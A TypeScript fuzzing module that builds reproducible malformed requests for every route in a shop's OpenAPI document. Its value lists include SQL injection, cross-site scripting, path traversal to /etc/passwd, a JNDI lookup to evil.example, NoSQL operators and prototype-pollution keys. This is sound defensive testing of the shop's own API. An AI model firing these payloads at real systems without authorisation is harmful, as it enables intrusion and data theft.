/**
 * Bad requests over every route of the shop's OpenAPI document (/api/docs): for each path and
 * method, plausible requests with one part made bad (path parameters, query parameters, body
 * fields) and wholly bad bodies (malformed JSON, wrong types, deep nesting, prototype keys, huge
 * strings). Seeded: the same seed gives the same requests, so a failure can be replayed.
 */
import { random } from './seeded-random.ts'

export interface AttackRequest {
  method: string
  /** path and query exactly as sent (not normalised: traversal paths stay as written) */
  path: string
  headers: Record<string, string>
  body?: string
  /** what was made bad, for the report */
  what: string
}

interface Schema {
  type?: string | string[]
  properties?: Record<string, Schema>
  items?: Schema
  enum?: unknown[]
  anyOf?: Schema[]
  oneOf?: Schema[]
  allOf?: Schema[]
}
interface Parameter {
  in: 'path' | 'query' | 'header'
  name: string
  schema?: Schema
}
interface Operation {
  parameters?: Parameter[]
  requestBody?: { content?: Record<string, { schema?: Schema }> }
}
export interface OpenApiDoc {
  paths: Record<string, Record<string, Operation>>
}

const MB = 1024 * 1024

/** Wrong values a header can carry at all (HTTP allows no control characters in one). */
const BAD_HEADER_VALUES: (() => string)[] = [
  () => '',
  () => ' ',
  () => 'has space',
  () => "' OR '1'='1' --",
  () => '<script>alert(1)</script>',
  () => '../../../../etc/passwd',
  () => '${jndi:ldap://evil.example/a}',
  () => '__proto__; drop',
  () => 'a, b',
  () => 'x'.repeat(101),
  () => 'x'.repeat(8000),
  () => '\u00e9t\u00e9',
]
const nest = (depth: number) => '['.repeat(depth) + ']'.repeat(depth)

/** Values that are wrong somewhere: texts, numbers, types, structures. */
const BAD_VALUES: (() => unknown)[] = [
  () => '',
  () => '\u0000',
  () => 'fiets\u0000; drop table product',
  () => '\ud800',
  () => 'a\udc00b',
  () => "' OR '1'='1' --",
  () => '"; DROP TABLE customer; --',
  () => '<script>alert(1)</script>',
  () => '<img src=x onerror=alert(1)>',
  () => '../../../../etc/passwd',
  () => '..%2f..%2f..%2fetc%2fpasswd',
  () => '${jndi:ldap://evil.example/a}',
  () => '{{7*7}}',
  () => '__proto__',
  () => 'constructor',
  () => 'x'.repeat(10_000),
  () => -1,
  () => 0,
  () => -2147483649,
  () => 2 ** 53 + 1,
  () => 1e308,
  () => -1e308,
  () => 0.000001,
  () => 1.5,
  () => 'NaN',
  () => '1e999',
  () => true,
  () => null,
  () => [],
  () => {},
  () => [[[[[[[[[[[]]]]]]]]]]],
  () => ({ $ne: null }),
  () => ({ __proto__: { admin: true } }),
  () => JSON.parse('{"__proto__":{"admin":true}}'),
  () => ({ constructor: { prototype: { admin: true } } }),
  () => Array.from({ length: 5000 }, (_, i) => i),
]

/** Whole bodies that are wrong as a whole (sent as raw text). */
const BAD_BODIES: (() => { body: string; type?: string; what: string })[] = [
  () => ({ body: '{', what: 'malformed JSON' }),
  () => ({ body: '{"a":', what: 'truncated JSON' }),
  () => ({ body: '{"a":1,}', what: 'trailing comma' }),
  () => ({ body: "{'a':1}", what: 'single quotes' }),
  () => ({ body: 'null', what: 'null body' }),
  () => ({ body: '[]', what: 'array body' }),
  () => ({ body: '"text"', what: 'string body' }),
  () => ({ body: '12345678901234567890', what: 'number body' }),
  () => ({ body: '{"a":"\\ud800"}', what: 'escaped lone surrogate' }),
  () => ({ body: '{"a":"\\u0000"}', what: 'escaped NUL' }),
  () => ({ body: `{"a":${nest(20_000)}}`, what: 'nested 20,000 deep' }),
  () => ({ body: `{"a":${nest(100)}}`, what: 'nested 100 deep' }),
  () => ({ body: '{"__proto__":{"isAdmin":true}}', what: '__proto__ key' }),
  () => ({ body: '{"constructor":{"prototype":{"isAdmin":true}}}', what: 'constructor.prototype key' }),
  () => ({ body: `{"a":"${'x'.repeat(MB)}"}`, what: '1 MB string' }),
  () => ({ body: 'x'.repeat(MB + 10), what: 'body past 1 MB' }),
  () => ({ body: 'a=1&b=2', type: 'application/x-www-form-urlencoded', what: 'form body' }),
  () => ({ body: '<xml/>', type: 'application/xml', what: 'XML body' }),
  () => ({ body: '{"a":1}', type: 'text/plain', what: 'JSON as text/plain' }),
  () => ({ body: '\u0000\u0001\u0002', what: 'binary body' }),
]

const BAD_PATH_PARTS = [
  '..',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '%00',
  '%ED%A0%80',
  '%ff%fe',
  '%',
  'x'.repeat(3000),
  '-1',
  '99999999999999999999',
  '1e308',
  '%27%20OR%201%3D1',
  '%3Cscript%3E',
  '__proto__',
  'constructor',
]

function typeOf(schema: Schema | undefined): string | undefined {
  if (!schema) return undefined
  if (Array.isArray(schema.type)) return schema.type.find((t) => t !== 'null')
  if (schema.type) return schema.type
  const alt = schema.anyOf ?? schema.oneOf ?? schema.allOf
  return alt ? typeOf(alt[0]) : undefined
}

/** A plausible value for a schema: the skeleton a bad part is put into. */
function plausible(schema: Schema | undefined, depth = 0): unknown {
  if (!schema || depth > 6) return 'x'
  if (schema.enum?.length) return schema.enum[0]
  const alt = schema.anyOf ?? schema.oneOf
  if (alt && !schema.type) return plausible(alt[0], depth + 1)
  switch (typeOf(schema)) {
    case 'object': {
      const out: Record<string, unknown> = {}
      for (const [k, v] of Object.entries(schema.properties ?? {})) out[k] = plausible(v, depth + 1)
      return out
    }
    case 'array':
      return [plausible(schema.items, depth + 1)]
    case 'integer':
    case 'number':
      return 1
    case 'boolean':
      return true
    default:
      return 'x'
  }
}

/** Every path to a leaf of a plausible value (where a bad value can go). */
function leaves(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (Array.isArray(value)) return value.length ? value.flatMap((v, i) => leaves(v, [...path, i])) : [path]
  if (value && typeof value === 'object') {
    const keys = Object.keys(value)
    return keys.length
      ? keys.flatMap((k) => leaves((value as Record<string, unknown>)[k], [...path, k]))
      : [path]
  }
  return [path]
}

function setAt(root: unknown, path: (string | number)[], value: unknown): unknown {
  if (path.length === 0) return value
  const copy = structuredClone(root) as Record<string | number, unknown>
  let at = copy
  for (const part of path.slice(0, -1)) at = at[part] as Record<string | number, unknown>
  Object.defineProperty(at, path.at(-1)!, { value, enumerable: true, writable: true, configurable: true })
  return copy
}

const qsValue = (v: unknown) =>
  typeof v === 'string' ? v : v === null ? 'null' : typeof v === 'object' ? JSON.stringify(v) : String(v)

/** Percent-encodes what URLs cannot carry, but keeps lone surrogates as their broken bytes. */
function encodeQuery(text: string): string {
  return text
    .split(/([\ud800-\udfff])/)
    .map((part) => (/^[\ud800-\udfff]$/.test(part) ? '%ED%A0%80' : encodeURIComponent(part)))
    .join('')
}

interface Route {
  method: string
  template: string
  op: Operation
}

export function routesOf(doc: OpenApiDoc): Route[] {
  const out: Route[] = []
  for (const [template, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (['get', 'post', 'put', 'delete', 'patch'].includes(method))
        out.push({ method: method.toUpperCase(), template, op })
    }
  }
  return out
}

/** `count` bad requests spread evenly over the routes, reproducible by seed. */
export function* attackRequests(doc: OpenApiDoc, count: number, seed: number): Generator<AttackRequest> {
  const rand = random(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)]!
  const routes = routesOf(doc)
  for (let n = 0; n < count; n++) {
    const route = routes[n % routes.length]!
    const params = route.op.parameters ?? []
    const pathParams = params.filter((p) => p.in === 'path')
    const queryParams = params.filter((p) => p.in === 'query')
    const headerParams = params.filter((p) => p.in === 'header')
    const bodySchema = route.op.requestBody?.content?.['application/json']?.schema
    const hasBody = route.method !== 'GET' && route.method !== 'DELETE'
    const goodBody = hasBody ? plausible(bodySchema) : undefined
    // which part is made bad this time
    const parts = ['query', 'path', 'header', 'body', 'rawBody'].filter(
      (p) =>
        (p === 'query' && queryParams.length) ||
        (p === 'path' && pathParams.length) ||
        (p === 'header' && headerParams.length) ||
        ((p === 'body' || p === 'rawBody') && hasBody),
    )
    const part = parts.length ? pick(parts) : 'query'

    let path = route.template
    for (const p of pathParams) path = path.replace(`{${p.name}}`, typeOf(p.schema) === 'number' ? '1' : 'x')
    const query = new Map<string, string>(queryParams.map((p) => [p.name, qsValue(plausible(p.schema))]))
    let body: string | undefined = goodBody === undefined ? undefined : JSON.stringify(goodBody)
    let type = 'application/json'
    let what = ''
    const headers: Record<string, string> = {}

    if (part === 'path') {
      const p = pick(pathParams)
      const bad = pick(BAD_PATH_PARTS)
      path = route.template.replace(`{${p.name}}`, bad)
      for (const other of pathParams) path = path.replace(`{${other.name}}`, 'x')
      what = `path ${p.name}=${bad.slice(0, 40)}`
    } else if (part === 'query') {
      const bad = pick(BAD_VALUES)()
      const name =
        queryParams.length && rand() < 0.85
          ? pick(queryParams).name
          : pick(['__proto__', 'constructor', 'token', 'cartId', 'x'])
      query.set(name, qsValue(bad).slice(0, 20_000))
      what = `query ${name}=${qsValue(bad).slice(0, 40)}`
    } else if (part === 'header') {
      const name = pick(headerParams).name
      headers[name] = pick(BAD_HEADER_VALUES)()
      what = `header ${name}=${headers[name].slice(0, 40)}`
    } else if (part === 'body') {
      const spots = leaves(goodBody)
      const spot = pick(spots)
      const bad = pick(BAD_VALUES)()
      body = JSON.stringify(setAt(goodBody, spot, bad))
      what = `body ${spot.join('.') || '(root)'}=${JSON.stringify(bad)?.slice(0, 40)}`
    } else {
      const bad = pick(BAD_BODIES)()
      body = bad.body
      type = bad.type ?? type
      what = `body: ${bad.what}`
    }
    const qs = [...query].map(([k, v]) => `${encodeURIComponent(k)}=${encodeQuery(v)}`).join('&')
    yield {
      method: route.method,
      path: qs ? `${path}?${qs}` : path,
      headers: body === undefined ? headers : { ...headers, 'content-type': type },
      body,
      what: `${route.method} ${route.template}: ${what}`,
    }
  }
}
